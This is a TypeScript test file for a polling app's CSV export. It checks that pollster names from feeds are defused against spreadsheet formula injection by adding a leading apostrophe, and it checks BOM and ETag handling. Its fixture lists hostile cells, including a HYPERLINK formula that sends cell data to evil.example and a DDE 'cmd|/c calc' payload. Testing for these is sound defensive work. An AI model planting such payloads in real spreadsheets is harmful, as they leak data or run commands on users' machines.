import { beforeAll, expect, test } from "vitest";
import { readCsv } from "../../../src/formats/text/csv.ts";
import { client, hurry, pollJson, putLive, RACE_ID } from "../desk/fixture.ts";
import { openApp } from "../harness.ts";

const ADDRESS = `/v1/races/${RACE_ID}/polls.csv`;

/** What feeds may bring, and how a spreadsheet is to have it. */
const NAMES: readonly (readonly [given: string, safe: string])[] = [
  [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    `'=HYPERLINK("http://evil.example/?x="&A2,"Click")`,
  ],
  ["+1+cmd|'/c calc'!A1", "'+1+cmd|'/c calc'!A1"],
  ["-2+3 Polling", "'-2+3 Polling"],
  ["@SUM(1)", "'@SUM(1)"],
  ["＝SUM(1)", "'＝SUM(1)"],
  ["A; =1+1", "A; '=1+1"],
  ["-5", "-5"],
  ["Encuestas Peña", "Encuestas Peña"],
  ["A-B = C+D", "A-B = C+D"],
  ['say "=1"', `say "'=1"`],
];

beforeAll(async () => {
  await putLive();
  const { ask } = await client();
  const polls = NAMES.map(([pollster], i) => ({ ...pollJson(`p${i}`, 48, 46), pollster }));
  const put = await ask("PUT", `${RACE_ID}/desk/polls`, { json: { polls } });
  if (!put.ok) throw new Error(await put.text());
  await hurry();
});

const pollsters = (text: string) => {
  const { header, rows } = readCsv(text);
  const at = header.cells.indexOf("pollster");
  return rows.map(({ cells }) => cells[at]).toSorted();
};

test("the plain table stays as it is", async () => {
  const answer = await openApp().ask(ADDRESS);
  const bytes = new Uint8Array(await answer.arrayBuffer());
  expect(Array.from(bytes.slice(0, 3))).toEqual([0x69, 0x64, 0x2c]);
  expect(pollsters(new TextDecoder().decode(bytes))).toEqual(
    NAMES.map(([given]) => given).toSorted(),
  );
  expect(answer.headers.get("Content-Disposition")).toBeNull();
});

test.each(["?bom=1", "?download=1"])(
  "%s begins with a byte order mark, and no text is a formula",
  async (query) => {
    const { ask } = openApp();
    const [plain, answer] = [await ask(ADDRESS), await ask(ADDRESS + query)];
    const bytes = new Uint8Array(await answer.arrayBuffer());
    expect(Array.from(bytes.slice(0, 4))).toEqual([0xef, 0xbb, 0xbf, 0x69]);
    expect(pollsters(new TextDecoder().decode(bytes))).toEqual(
      NAMES.map(([, safe]) => safe).toSorted(),
    );
    expect(answer.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(answer.headers.get("Content-Disposition")).toBe(
      query === "?bom=1" ? null : `attachment; filename="${RACE_ID}-polls.csv"`,
    );
    // Other bytes, another tag; both are known again.
    const etag = answer.headers.get("ETag") ?? "";
    expect(etag).not.toBe(plain.headers.get("ETag"));
    const again = await ask(ADDRESS + query, { headers: { "If-None-Match": etag } });
    expect(again.status).toBe(304);
    const crossed = await ask(ADDRESS, { headers: { "If-None-Match": etag } });
    expect(crossed.status).toBe(200);
  },
);

test("JSON takes no notice of it", async () => {
  const answer = await openApp().ask(`${ADDRESS.replace(".csv", "")}?bom=1`);
  expect(await answer.text()).toMatch(/^\{/);
});
